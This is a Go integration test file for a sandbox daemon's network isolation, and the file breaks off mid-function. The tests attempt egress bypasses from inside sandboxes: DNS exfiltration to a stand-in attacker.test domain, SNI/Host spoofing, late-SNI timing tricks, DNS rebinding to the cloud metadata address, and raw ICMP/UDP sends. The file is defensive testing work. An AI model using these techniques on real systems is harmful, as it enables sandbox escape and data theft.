package integration

import (
	"bufio"
	"context"
	"crypto/sha1"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/fencesandbox/fence/api"
	"github.com/fencesandbox/fence/client"
)

// netEnv is what the network tests share: the daemon, the fake internet
// and the host canary.
type netEnv struct {
	d      *daemon
	fn     *fakeNet
	canary *canary
}

// leak is how much of a refused flow may reach the wan servers.
type leak int

const (
	// noPackets: not even a SYN, datagram or echo request arrives.
	noPackets leak = iota
	// noPayload: the daemon may connect to the destination (an address the
	// sandbox's resolver handed out for an allowed name is dialed before
	// the name the client presents is checked), but no byte of the
	// sandbox's arrives.
	noPayload
)

// curl is the client of the base template, bounded so a dropped flow fails
// fast.
const curl = "curl -sS --connect-timeout 3 -m 6 "

// attempt runs script with sh -c in the sandbox and returns its stdout and
// stderr together and its exit code.
func attempt(t testing.TB, e *client.Envd, script string) (string, int) {
	t.Helper()
	out, errs, st := run(t, e, client.ProcessSpec{Cmd: "sh", Args: []string{"-c", script}})
	if st.ExitCode < 0 {
		t.Logf("%s: %+v", script, st)
	}
	return out + errs, st.ExitCode
}

// reached runs script, which must succeed and print a wan server's answer,
// and checks that a wan log line containing wantLog appeared.
func (x *netEnv) reached(t *testing.T, e *client.Envd, script, wantLog string) {
	t.Helper()
	m := x.fn.mark()
	out, code := attempt(t, e, script)
	if code != 0 || !strings.Contains(out, "hello from wan") {
		t.Errorf("%s: exit %d, output %q; want the wan server's answer", script, code, out)
		return
	}
	var got []string
	eventually(t, 5*time.Second, "wan log of "+script, func() bool {
		got = x.fn.since(m)
		return strings.Contains(strings.Join(got, "\n"), wantLog)
	})
}

// refused runs script, which must fail, then checks the oracle: the wan
// servers saw no more than lk allows and the host canary saw nothing.
func (x *netEnv) refused(t *testing.T, e *client.Envd, script string, lk leak) {
	t.Helper()
	m, cm := x.fn.mark(), len(x.canary.Conns())
	out, code := attempt(t, e, script)
	t.Logf("%.200s: exit %d: %.300q", strings.Join(strings.Fields(script), " "), code, out)
	if code == 0 || strings.Contains(out, "hello from") {
		t.Errorf("%s: exit %d, output %q; want a failure", script, code, out)
	}
	// Let packets in flight land (the daemon dials before the client's
	// handshake completes, so this is only for datagrams).
	time.Sleep(200 * time.Millisecond)
	var bad []string
	for _, l := range x.fn.since(m) {
		if lk == noPayload && (strings.HasPrefix(l, "syn ") || strings.HasPrefix(l, "accept ")) {
			continue
		}
		bad = append(bad, l)
	}
	if len(bad) > 0 {
		t.Errorf("%s: the wan servers received from the sandbox:\n%s", script, strings.Join(bad, "\n"))
	}
	if c := x.canary.Conns()[cm:]; len(c) > 0 {
		t.Errorf("%s: the host canary on port %d was reached:\n%s", script, x.canary.Port, strings.Join(c, "\n"))
	}
}

// noUpstreamQuery checks that no upstream DNS query since m mentions any of
// names.
func (x *netEnv) noUpstreamQuery(t *testing.T, m int, names ...string) {
	t.Helper()
	for _, q := range x.fn.dnsSince(m) {
		for _, n := range names {
			if strings.Contains(q, n) {
				t.Errorf("upstream DNS server was asked %q", q)
			}
		}
	}
}

// createAll creates the sandboxes of reqs at once and kills them when t
// ends.
func createAll(t *testing.T, d *daemon, reqs map[string]api.NewSandbox) map[string]*client.Sandbox {
	t.Helper()
	var mu sync.Mutex
	var wg sync.WaitGroup
	out := map[string]*client.Sandbox{}
	var errs []error
	for name, req := range reqs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
			defer cancel()
			sb, err := d.Client.Create(ctx, req)
			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				errs = append(errs, fmt.Errorf("creating %s: %w", name, err))
				return
			}
			out[name] = sb
		}()
	}
	wg.Wait()
	for _, sb := range out {
		t.Cleanup(func() {
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			if err := sb.Kill(ctx); err != nil && !errors.Is(err, api.ErrNotFound) {
				t.Errorf("Kill(%s): %v", sb.ID(), err)
			}
		})
	}
	if len(errs) > 0 {
		t.Fatal(errors.Join(errs...))
	}
	return out
}

// startBackground starts cmd in the sandbox and leaves it running; it is
// detached from when t ends.
func startBackground(t *testing.T, e *client.Envd, spec client.ProcessSpec) *client.Process {
	t.Helper()
	p, err := e.Start(context.Background(), spec)
	if err != nil {
		t.Fatalf("starting %s %q: %v", spec.Cmd, spec.Args, err)
	}
	t.Cleanup(func() { p.Close() })
	return p
}

func ptr[T any](v T) *T { return &v }

// hostAddrs returns the host's own global addresses (not loopback or
// link-local).
func hostGlobalAddrs(t *testing.T) []netip.Addr {
	t.Helper()
	as, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var out []netip.Addr
	for _, a := range as {
		p, err := netip.ParsePrefix(a.String())
		if err != nil {
			continue
		}
		if ad := p.Addr(); !ad.IsLoopback() && !ad.IsLinkLocalUnicast() {
			out = append(out, ad)
		}
	}
	return out
}

func urlHost(a string) string {
	if strings.Contains(a, ":") {
		return "[" + a + "]"
	}
	return a
}

// pyDNS sends raw DNS queries to the sandbox's resolver over UDP and TCP
// (IPv4 and IPv6) and prints each answer's rcode and answer count.
const pyDNS = `
import socket, struct, random, sys
def q(name, qtype):
    hdr = struct.pack('>HHHHHH', random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    body = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    return hdr + body + struct.pack('>HH', qtype, 1)
def udp(fam, server, msg):
    s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(2)
    s.sendto(msg, (server, 53))
    try: return s.recv(4096)
    except Exception as e: return None
def tcp(fam, server, msg):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2)
    try:
        s.connect((server, 53)); s.sendall(struct.pack('>H', len(msg)) + msg)
        n = struct.unpack('>H', s.recv(2))[0]; return s.recv(n)
    except Exception as e: return None
for name in sys.argv[1:]:
    for qtype in (16, 1, 28, 10, 255, 15):  # TXT A AAAA NULL ANY MX
        for fam, server in ((socket.AF_INET, '10.0.2.3'), (socket.AF_INET6, 'fd00:fe11:ce::3')):
            for f in (udp, tcp):
                r = f(fam, server, q(name, qtype))
                print(name, qtype, server, f.__name__, 'noanswer' if r is None else 'rcode=%d/an=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0]))
`

// TestNetwork attacks the network fence from inside real sandboxes, with a
// fake internet (a network namespace with logging servers) as the oracle:
// a refused flow must fail in the sandbox and leave no trace on the wan
// servers, the upstream DNS server or the host canary. Then it checks
// ingress to sandbox ports through the daemon, and floods from inside.
func TestNetwork(t *testing.T) {
	requireTemplate(t, "base")
	fn := newFakeNet(t) // before the daemon: the veth's addresses are the host's
	x := &netEnv{fn: fn, canary: newCanary(t)}
	x.d = startDaemon(t, newDataDir(t), "--dns-upstream", fn.DNS.Addr)
	d := x.d

	hostAddrs := hostGlobalAddrs(t)
	var hostAllow []string
	for _, a := range hostAddrs {
		hostAllow = append(hostAllow, a.String())
	}
	boxes := createAll(t, d, map[string]api.NewSandbox{
		// list: an allowlist of names, some of which resolve to addresses
		// no rule can open.
		"list": {TemplateID: "base", Network: &api.NetworkConfig{DenyOut: []string{"0.0.0.0/0"},
			AllowOut: []string{"allowed.test", "rebind.test", "meta.test", "loop.test", "priv.test"}}},
		// wide: every public address, and the host's own addresses by name
		// (which no rule can open).
		"wide": {TemplateID: "base", Network: &api.NetworkConfig{
			AllowOut: append([]string{"0.0.0.0/0", "::/0"}, hostAllow...)}},
		"neighbour": {TemplateID: "base"},
		"off":       {TemplateID: "base", AllowInternetAccess: ptr(false)},
		"default":   {TemplateID: "base"},
		"update":    {TemplateID: "base"},
		"ingress":   {TemplateID: "base"},
		"private":   {TemplateID: "minimal", Network: &api.NetworkConfig{AllowPublicTraffic: ptr(false)}},
	})
	list, wide := boxes["list"].Envd(), boxes["wide"].Envd()

	// The order matters: "raw IP" must come before list resolves anything.
	t.Run("raw IP without DNS", func(t *testing.T) {
		for _, u := range []string{
			"http://" + wanIP + "/raw",
			"-k https://" + wanIP + "/raw",
			"http://3405803786/raw", // 203.0.113.10 in decimal
			"http://0xcb00710a/raw", // and in hex
			"-g http://[::ffff:" + wanIP + "]/raw",
			"-g http://[" + wanIP6 + "]/raw",
			"-g -k https://[" + wanIP6 + "]/raw",
			"--resolve allowed.test:80:" + wanIP + " http://allowed.test/raw",
			"http://" + evilIP + "/raw",
			"http://" + privIP + "/raw",
		} {
			x.refused(t, list, curl+u, noPackets)
		}
	})
	t.Run("allowed name", func(t *testing.T) {
		x.reached(t, list, curl+"http://allowed.test/h1", "host=allowed.test path=/h1")
		x.reached(t, list, curl+"-k https://allowed.test/h2", `sni name="allowed.test"`)
		x.reached(t, list, curl+"-4 http://ALLOWED.TEST./h3", "path=/h3")
		x.reached(t, list, curl+"-6 -k https://allowed.test/h4", `sni name="allowed.test" local=[`+wanIP6+`]`)
		// What pip does: a TLS GET with Python's ssl (certificate checks off:
		// the fake wan's certificate is self-signed).
		x.reached(t, list, `python3 -c "
import ssl, urllib.request
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
print(urllib.request.urlopen('https://allowed.test/simple/pip/', context=ctx, timeout=5).read().decode())"`,
			"host=allowed.test path=/simple/pip/")
	})
	t.Run("a name rule covers every port", func(t *testing.T) {
		// E2B's allowOut entries have no port syntax (policy.ParseTarget),
		// so a non-allowed port of an allowed name cannot be expressed;
		// check at least that the name rule is what opens the port.
		x.reached(t, list, curl+"http://allowed.test:8080/p", "local=")
	})
	t.Run("look-alike names", func(t *testing.T) {
		dm := fn.dnsMark()
		for _, u := range []string{
			"http://evilallowed.test/",
			"http://allowed.test.evil.test/",
			"http://ALLOWED.TEST.evil.test/",
			"http://allowed.test@evil.test/",
			"http://evil.test/",
			"--resolve evilallowed.test:80:" + evilIP + " http://evilallowed.test/",
		} {
			x.refused(t, list, curl+u, noPackets)
		}
		x.noUpstreamQuery(t, dm, "evil")
		// The address handed out for allowed.test, with another name.
		for _, u := range []string{
			"--resolve evilallowed.test:80:" + wanIP + " http://evilallowed.test/",
			"--resolve allowed.test.evil.test:443:" + wanIP + " -k https://allowed.test.evil.test/",
		} {
			x.refused(t, list, "getent ahosts allowed.test >/dev/null; "+curl+u, noPayload)
		}
	})
	t.Run("DNS exfiltration", func(t *testing.T) {
		dm := fn.dnsMark()
		out, errs, st := run(t, list, client.ProcessSpec{Cmd: "python3", Args: []string{"-c", pyDNS,
			"secret.data.attacker.test", "c2VjcmV0.allowed.test", "allowed.test"}})
		if st.ExitCode != 0 {
			t.Fatalf("DNS queries: exit %d, %s", st.ExitCode, errs)
		}
		if g, _ := attempt(t, list, "getent hosts secret.data.attacker.test"); g != "" {
			t.Errorf("getent hosts secret.data.attacker.test = %q, want nothing", g)
		}
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			if f := strings.Fields(l); len(f) == 5 && f[0] != "allowed.test" && f[4] != "noanswer" && f[4] != "rcode=3/an=0" {
				t.Errorf("resolver answered %q, want NXDOMAIN for a name not allowed", l)
			}
		}
		x.noUpstreamQuery(t, dm, "attacker", "c2VjcmV0", "TXT", "NULL", "ANY", "MX")
		if !strings.Contains(out, "allowed.test 1 10.0.2.3 udp rcode=0/an=1") {
			t.Errorf("the raw A query for allowed.test was not answered (control):\n%s", out)
		}
		// A foreign resolver, directly.
		x.refused(t, wide, `python3 -c "
import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(b'exfil', ('`+wanIP+`', 53)); print(s.recv(100))"`, noPackets)
	})
	t.Run("SNI or Host differs from the resolved name", func(t *testing.T) {
		for _, c := range []string{
			curl + "-k --connect-to evil.test:443:allowed.test:443 https://evil.test/s1",
			curl + "--connect-to evil.test:80:allowed.test:80 http://evil.test/s2",
			curl + "-H 'Host: evil.test' http://allowed.test/s3",
			curl + "-H 'Host: allowed.test.evil.test' http://allowed.test/s3",
			curl + "--connect-to evil.test:8080:allowed.test:8080 http://evil.test:8080/s4",
			"openssl s_client -connect allowed.test:443 -servername evil.test </dev/null",
		} {
			x.refused(t, list, c, noPayload)
		}
		// Domain fronting (allowed SNI, other Host inside TLS) is an accepted
		// risk (internal/egress doc); just record what happens.
		m := fn.mark()
		out, code := attempt(t, list, curl+"-k -H 'Host: evil.test' https://allowed.test/fronted")
		t.Logf("domain fronting (accepted risk): exit %d, %q; wan saw %q", code, out, fn.since(m))
	})
	t.Run("every request on a name's connection", func(t *testing.T) { testEveryRequest(t, x, list) })
	t.Run("late or missing name", func(t *testing.T) {
		// To an address handed out for allowed.test, a stream that names
		// no name (TLS without SNI, HTTP without Host), or names another
		// one only after the stack's peek timeout (10 s), is judged by the
		// resolver record alone (internal/egress doc). On a shared-IP host
		// (CDN) that opens every name it serves: the SNI/Host check is
		// bypassed by a sleep. These cases assert what the guarantee "a TLS
		// SNI or HTTP Host must name an allowed name" promises.
		cases := []string{
			curl + "-k https://" + wanIP + "/nosni",
			curl + "--http1.0 -H 'Host:' http://" + wanIP + "/nohost",
			`python3 -c "
import socket, ssl, time
c = socket.create_connection(('allowed.test', 443), 5); time.sleep(10.5)
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
s = ctx.wrap_socket(c, server_hostname='evil.test'); s.settimeout(5)
s.sendall(b'GET /late-sni HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n')
print(s.recv(4096).decode())"`,
			`python3 -c "
import socket, time
c = socket.create_connection(('allowed.test', 80), 5); time.sleep(10.5)
c.sendall(b'GET /late-host HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n'); c.settimeout(5)
print(c.recv(4096).decode())"`,
		}
		sh(t, list, "getent ahosts allowed.test >/dev/null")
		m := fn.mark()
		var wg sync.WaitGroup
		for _, c := range cases {
			wg.Add(1)
			go func() {
				defer wg.Done()
				var out strings.Builder
				st, err := list.Run(ctxT(t), client.ProcessSpec{Cmd: "sh", Args: []string{"-c", c}, Stdout: &out, Stderr: &out})
				short := strings.Join(strings.Fields(c), " ")
				t.Logf("%.120s: exit %d (%v): %q", short, st.ExitCode, err, out.String())
				if err == nil && st.ExitCode == 0 && strings.Contains(out.String(), "hello from wan") {
					t.Errorf("%.120s reached the wan server: %q", short, out.String())
				}
			}()
		}
		wg.Wait()
		for _, l := range fn.since(m) {
			if !strings.HasPrefix(l, "syn ") && !strings.HasPrefix(l, "accept ") {
				t.Errorf("the wan servers received: %s", l)
			}
		}
	})
	t.Run("allowed names resolving to unreachable addresses", func(t *testing.T) {
		if out, _ := attempt(t, list, "getent ahosts meta.test loop.test priv.test"); strings.TrimSpace(out) != "" {
			t.Errorf("getent ahosts meta.test loop.test priv.test = %q, want no address", out)
		}
		x.refused(t, list, curl+"http://meta.test/latest/meta-data/", noPackets)
		x.refused(t, list, curl+"http://loop.test:"+strconv.Itoa(x.canary.Port)+"/", noPackets)
		x.refused(t, list, curl+"http://loop.test:"+d.port()+"/health", noPackets)
		x.refused(t, list, curl+"http://priv.test/", noPackets)
	})
	t.Run("ICMP", func(t *testing.T) {
		// The wide policy allows the addresses, so only the ICMP rule can
		// stop these. Root in the sandbox tries a raw socket, then a ping
		// socket; either may already be refused inside the sandbox.
		root := wide.WithUser("root")
		for _, dst := range []string{wanIP, wanIP6} {
			x.refused(t, root, `python3 -c "
import socket, struct, sys
dst = '`+dst+`'
v6 = ':' in dst
fam, proto = (socket.AF_INET6, socket.IPPROTO_ICMPV6) if v6 else (socket.AF_INET, socket.IPPROTO_ICMP)
def csum(b):
    t = sum(struct.unpack('!%dH' % (len(b)//2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
    return ~t & 0xffff
body = struct.pack('!HH', 7, 1) + b'fence-ping'
hdr = struct.pack('!BBH', 128 if v6 else 8, 0, 0)
pkt = hdr + body if v6 else struct.pack('!BBH', 8, 0, csum(hdr + body)) + body
sent = False
for typ in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        s = socket.socket(fam, typ, proto); s.settimeout(1)
        for i in range(3): s.sendto(pkt, (dst, 0))
        sent = True
        print('sent with', typ); print('reply', s.recv(200)[:8]); sys.exit(0)
    except OSError as e: print(typ, e)
sys.exit(1)
"`, noPackets)
		}
		out, code := attempt(t, boxes["private"].Envd().WithUser("root"), "ping -c 2 -W 1 "+wanIP)
		t.Logf("busybox ping as root: exit %d, %q", code, out)
		if code == 0 {
			t.Errorf("busybox ping from a sandbox that said nothing about its network: exit 0, %q", out)
		}
	})
	t.Run("UDP", func(t *testing.T) {
		for _, dst := range []string{wanIP + "', 5353", wanIP + "', 443", wanIP6 + "', 5353", evilIP + "', 5353"} {
			fam := "AF_INET"
			if strings.Contains(dst, "::") {
				fam = "AF_INET6"
			}
			x.refused(t, wide, `python3 -c "
import socket; s = socket.socket(socket.`+fam+`, socket.SOCK_DGRAM); s.settimeout(1)
for i in range(3): s.sendto(b'quic-ish', ('`+dst+`))
print(s.recv(100))"`, noPackets)
		}
	})
	t.Run("wide allowlist reaches the wan", func(t *testing.T) {
		// The control for the refusals above: the route and servers work.
		x.reached(t, wide, curl+"http://"+wanIP+"/w1", "path=/w1")
		x.reached(t, wide, curl+"-g http://["+wanIP6+"]/w2", "path=/w2")
	})
	t.Run("host addresses", func(t *testing.T) {
		addrs := []string{"10.0.2.2", "10.0.2.3", "10.0.2.1", "fd00:fe11:ce::2", "fd00:fe11:ce::3", "fd00:fe11:ce::1"}
		for _, a := range hostAddrs {
			addrs = append(addrs, a.String())
		}
		for _, a := range addrs {
			for _, port := range []string{strconv.Itoa(x.canary.Port), d.port()} {
				x.refused(t, wide, curl+"-g http://"+urlHost(a)+":"+port+"/", noPackets)
			}
		}
		// The resolver address serves DNS only.
		x.refused(t, wide, curl+"http://10.0.2.3:80/", noPackets)
	})
	t.Run("other sandbox", func(t *testing.T) {
		nb := boxes["neighbour"]
		startBackground(t, nb.Envd(), client.ProcessSpec{Cmd: "python3", Args: []string{"-c", `
import socket, threading
def serve(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if fam == socket.AF_INET6: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind((addr, 8080)); s.listen(64)
    while True:
        c, a = s.accept()
        with open('/tmp/conns', 'a') as f: f.write('%s\n' % (a,))
        c.settimeout(2)
        try: c.recv(4096)
        except OSError: pass
        c.sendall(b'HTTP/1.0 200 OK\r\n\r\nhello from the neighbour\n'); c.close()
threading.Thread(target=serve, args=(socket.AF_INET6, '::')).start()
serve(socket.AF_INET, '0.0.0.0')
`}})
		ne := nb.Envd()
		eventually(t, 10*time.Second, "neighbour listening", func() bool {
			out, code := attempt(t, ne, "python3 -c \"import socket; socket.create_connection(('127.0.0.1', 8080), 1)\" && rm -f /tmp/conns")
			return code == 0 && out == ""
		})
		for _, a := range []string{"10.0.2.100", "10.0.2.101", "10.0.2.1", "10.0.2.2", "10.0.2.3", "10.0.2.255",
			"fd00:fe11:ce::100", "fd00:fe11:ce::101", "fd00:fe11:ce::2", "fd00:fe11:ce::3"} {
			x.refused(t, wide, curl+"-g http://"+urlHost(a)+":8080/", noPackets)
		}
		if out, _ := attempt(t, ne, "cat /tmp/conns 2>/dev/null"); out != "" {
			t.Errorf("the neighbour sandbox's server was reached from another sandbox: %q", out)
		}
		// Control: the server and its log work, through the daemon.
		r := d.do(t, "GET", "/", "", nil, map[string]string{api.HeaderSandboxID: nb.ID(), api.HeaderSandboxPort: "8080"})
		if r.Status != 200 || !strings.Contains(string(r.Body), "neighbour") {
			t.Errorf("GET neighbour:8080 through the daemon = %d %q, want 200 from the neighbour", r.Status, r.Body)
		}
		if out, _ := attempt(t, ne, "cat /tmp/conns"); !strings.Contains(out, "10.0.2.2") {
			t.Errorf("neighbour's connection log after the control = %q, want one from 10.0.2.2", out)
		}
	})
	t.Run("DNS rebinding", func(t *testing.T) {
		defer fn.DNS.Set("rebind.test", wanIP)
		x.reached(t, list, curl+"http://rebind.test/r1", "host=rebind.test path=/r1")
		for _, a := range []string{"169.254.169.254", privIP, "127.0.0.1", "::1", "fd00:ec2::254", "::ffff:169.254.169.254"} {
			fn.DNS.Set("rebind.test", a)
			x.refused(t, list, curl+"http://rebind.test/r2", noPackets)
			x.refused(t, list, curl+"http://rebind.test:"+strconv.Itoa(x.canary.Port)+"/r2", noPackets)
		}
	})
	t.Run("allow_internet_access false", func(t *testing.T) {
		e := boxes["off"].Envd()
		dm := fn.dnsMark()
		x.refused(t, e, curl+"http://allowed.test/", noPackets)
		x.refused(t, e, curl+"http://"+wanIP+"/", noPackets)
		x.refused(t, e, curl+"-g http://["+wanIP6+"]/", noPackets)
		x.noUpstreamQuery(t, dm, "allowed")
	})
	t.Run("default denies", func(t *testing.T) {
		e := boxes["default"].Envd()
		dm := fn.dnsMark()
		x.refused(t, e, curl+"http://allowed.test/", noPackets)
		x.refused(t, e, curl+"http://"+wanIP+"/", noPackets)
		x.noUpstreamQuery(t, dm, "allowed")
	})
	t.Run("PUT network", func(t *testing.T) {
		sb := boxes["update"]
		e := sb.Envd()
		put := func(body string) {
			t.Helper()
			r := d.do(t, "PUT", "/sandboxes/"+sb.ID()+"/network", d.Key, strings.NewReader(body), nil)
			if r.Status != http.StatusNoContent {
				t.Fatalf("PUT /sandboxes/%s/network %s = %d %s, want 204", sb.ID(), body, r.Status, r.Body)
			}
		}
		x.refused(t, e, curl+"http://allowed.test/u0", noPackets)
		put(`{"denyOut":["0.0.0.0/0"],"allowOut":["allowed.test"]}`)
		x.reached(t, e, curl+"http://allowed.test/u1", "path=/u1")
		x.refused(t, e, curl+"http://other.test/u1", noPackets)
		put(`{"allow_internet_access":false}`)
		x.refused(t, e, curl+"http://allowed.test/u2", noPackets)
		for _, bad := range []string{`{"denyOut":["0.0.0.0/0"],"allowOut":["not a name!"]}`, `{"allowOut":["allowed.test"]}`} {
			r := d.do(t, "PUT", "/sandboxes/"+sb.ID()+"/network", d.Key, strings.NewReader(bad), nil)
			if r.Status != http.StatusBadRequest {
				t.Errorf("PUT network %s = %d %s, want 400", bad, r.Status, r.Body)
			}
		}
		x.refused(t, e, curl+"http://allowed.test/u3", noPackets)
		// An empty update clears every list and re-opens traffic.
		put(`{}`)
		x.reached(t, e, curl+"http://other.test/u4", "path=/u4")
	})
	t.Run("ingress", func(t *testing.T) { testIngress(t, x, boxes["ingress"], boxes["private"]) })
	t.Run("flood", func(t *testing.T) { testFlood(t, x, boxes["wide"], boxes["list"]) })
}

// port returns the daemon's API port.
func (d *daemon) port() string {
	_, p, _ := net.SplitHostPort(strings.TrimPrefix(d.URL, "http://"))
	return p
}

// pyWS is a WebSocket server on port 8001 that answers the handshake and
// then echoes raw bytes.
const pyWS = `
import socket, hashlib, base64, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', 8001)); s.listen(16)
def handle(c):
    buf = b''
    while b'\r\n\r\n' not in buf:
        d = c.recv(4096)
        if not d: return
        buf += d
    head, rest = buf.split(b'\r\n\r\n', 1)
    key = [l.split(b':', 1)[1].strip() for l in head.split(b'\r\n') if l.lower().startswith(b'sec-websocket-key:')][0]
    acc = base64.b64encode(hashlib.sha1(key + b'258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest())
    c.sendall(b'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ' + acc + b'\r\n\r\n')
    if rest: c.sendall(rest)
    while True:
        d = c.recv(4096)
        if not d: break
        c.sendall(d)
    c.close()
while True:
    c, _ = s.accept()
    threading.Thread(target=handle, args=(c,)).start()
`

// testIngress reaches servers inside sandboxes through the daemon.
func testIngress(t *testing.T, x *netEnv, sb, priv *client.Sandbox) {
	d := x.d
	e := sb.Envd()
	sh(t, e, "mkdir -p /tmp/www && echo ingress-ok > /tmp/www/index.html")
	srv := startBackground(t, e, client.ProcessSpec{Cmd: "python3", Args: []string{"-m", "http.server", "8000", "--directory", "/tmp/www"}})
	startBackground(t, e, client.ProcessSpec{Cmd: "python3", Args: []string{"-c", pyWS}})
	hdr := map[string]string{api.HeaderSandboxID: sb.ID(), api.HeaderSandboxPort: "8000"}
	eventually(t, 15*time.Second, "http.server answering through the daemon", func() bool {
		return d.do(t, "GET", "/", "", nil, hdr).Status == 200
	})

	t.Run("routing headers", func(t *testing.T) {
		r := d.do(t, "GET", "/index.html", "", nil, hdr)
		if r.Status != 200 || string(r.Body) != "ingress-ok\n" {
			t.Errorf("GET with routing headers = %d %q, want 200 \"ingress-ok\\n\"", r.Status, r.Body)
		}
	})
	t.Run("host", func(t *testing.T) {
		req, _ := http.NewRequest("GET", d.URL+"/index.html", nil)
		req.Host = "8000-" + sb.ID() + ".localhost"
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || string(b) != "ingress-ok\n" {
			t.Errorf("GET Host %s = %d %q, want 200 \"ingress-ok\\n\"", req.Host, resp.StatusCode, b)
		}
	})
	t.Run("websocket", func(t *testing.T) {
		var c net.Conn
		eventually(t, 10*time.Second, "websocket handshake", func() bool {
			var err error
			c, err = wsDial(d, sb.ID(), 8001)
			return err == nil
		})
		defer c.Close()
		c.SetDeadline(time.Now().Add(10 * time.Second))
		msg := "\x81\x05hello" // an unmasked text frame; the server echoes bytes
		if _, err := c.Write([]byte(msg)); err != nil {
			t.Fatal(err)
		}
		got := make([]byte, len(msg))
		if _, err := io.ReadFull(c, got); err != nil || string(got) != msg {
			t.Errorf("echo through the WebSocket = %q (%v), want %q", got, err, msg)
		}
	})
	t.Run("nothing listening", func(t *testing.T) {
		srv.Signal(ctxT(t), 9)
		var r rawResponse
		eventually(t, 10*time.Second, "502 after the server died", func() bool {
			r = d.do(t, "GET", "/", "", nil, hdr)
			return r.Status == http.StatusBadGateway
		})
		var pe api.ProxyError
		if err := json.Unmarshal(r.Body, &pe); err != nil || pe.SandboxID != sb.ID() || pe.Code != 502 || pe.Message == "" {
			t.Errorf("502 body = %s (%v), want {\"sandboxId\":%q,\"message\":…,\"code\":502}", r.Body, err, sb.ID())
		}
	})
	t.Run("allowPublicTraffic false", func(t *testing.T) {
		if priv.TrafficAccessToken == nil || *priv.TrafficAccessToken == "" {
			t.Fatalf("create with allowPublicTraffic false: trafficAccessToken = %v, want a token", priv.TrafficAccessToken)
		}
		tok := *priv.TrafficAccessToken
		pe := priv.Envd()
		sh(t, pe, "mkdir -p /tmp/www && echo private-ok > /tmp/www/index.html && httpd -p 8000 -h /tmp/www")
		h := map[string]string{api.HeaderSandboxID: priv.ID(), api.HeaderSandboxPort: "8000"}
		h[api.HeaderTrafficToken] = tok
		eventually(t, 10*time.Second, "httpd answering", func() bool {
			return d.do(t, "GET", "/index.html", "", nil, h).Status == 200
		})
		if r := d.do(t, "GET", "/index.html", "", nil, h); r.Status != 200 || string(r.Body) != "private-ok\n" {
			t.Errorf("GET with the traffic token = %d %q, want 200 private-ok", r.Status, r.Body)
		}
		h[api.HeaderTrafficToken] = tok + "x"
		if r := d.do(t, "GET", "/index.html", "", nil, h); r.Status != http.StatusForbidden {
			t.Errorf("GET with a wrong traffic token = %d %q, want 403", r.Status, r.Body)
		}
		delete(h, api.HeaderTrafficToken)
		if r := d.do(t, "GET", "/index.html", "", nil, h); r.Status != http.StatusForbidden {
			t.Errorf("GET without the traffic token = %d %q, want 403", r.Status, r.Body)
		}
		// The API key is not a substitute.
		if r := d.do(t, "GET", "/index.html", d.Key, nil, h); r.Status != http.StatusForbidden {
			t.Errorf("GET with the API key but no traffic token = %d %q, want 403", r.Status, r.Body)
		}
		// The public sandbox needs no token.
		if priv.ID() == sb.ID() {
			t.Fatal("same sandbox")
		}
	})
	t.Run("killed sandbox", func(t *testing.T) {
		if err := priv.Kill(ctxT(t)); err != nil {
			t.Fatal(err)
		}
		h := map[string]string{api.HeaderSandboxID: priv.ID(), api.HeaderSandboxPort: "8000",
			api.HeaderTrafficToken: *priv.TrafficAccessToken}
		r := d.do(t, "GET", "/", "", nil, h)
		var pe api.ProxyError
		if err := json.Unmarshal(r.Body, &pe); r.Status != 502 || err != nil || pe.SandboxID != priv.ID() || pe.Code != 502 {
			t.Errorf("GET a killed sandbox's port = %d %s, want 502 ProxyError", r.Status, r.Body)
		}
	})
}

// wsDial opens a WebSocket to port of sandbox id through the daemon and
// checks the handshake answer.
func wsDial(d *daemon, id string, port int) (net.Conn, error) {
	c, err := net.Dial("tcp", strings.TrimPrefix(d.URL, "http://"))
	if err != nil {
		return nil, err
	}
	c.SetDeadline(time.Now().Add(5 * time.Second))
	key := base64.StdEncoding.EncodeToString([]byte(randHex(8)))
	fmt.Fprintf(c, "GET /ws HTTP/1.1\r\nHost: %d-%s.localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"+
		"Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n", port, id, key)
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		c.Close()
		return nil, err
	}
	sum := sha1.Sum([]byte(key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
	if resp.StatusCode != http.StatusSwitchingProtocols || resp.Header.Get("Sec-WebSocket-Accept") != base64.StdEncoding.EncodeToString(sum[:]) {
		c.Close()
		return nil, fmt.Errorf("handshake answer %s %v", resp.Status, resp.Header)
	}
	if br.Buffered() > 0 {
